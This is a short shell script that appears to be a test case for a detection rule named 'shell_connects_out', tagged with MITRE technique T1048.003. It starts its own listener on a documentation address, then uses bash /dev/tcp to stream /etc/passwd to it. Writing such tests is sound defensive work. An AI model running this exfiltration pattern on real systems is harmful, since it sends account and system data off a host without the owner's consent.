#!/bin/sh
# technique: T1048.003 Exfiltration Over Alternative Protocol: Exfiltration Over Unencrypted Non-C2 Protocol
# rule: shell_connects_out
# Sends the list of accounts away with nothing but the shell; a listener of its own takes it.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
cat > /tmp/listen.py <<'END'
import socket
server = socket.create_server(("192.0.2.1", 8021))
server.settimeout(3)
connection, _ = server.accept()
connection.settimeout(2)
while connection.recv(4096):
    pass
END
cat > /tmp/send.sh <<'END'
exec 3<>/dev/tcp/192.0.2.1/8021
while read -r line; do printf '%s\n' "$line" >&3; done < /etc/passwd
sleep 0.3
END
python3 /tmp/listen.py &
listener=$!
sleep 0.4
bash /tmp/send.sh || true
kill $listener 2>/dev/null
wait $listener 2>/dev/null
exit 0
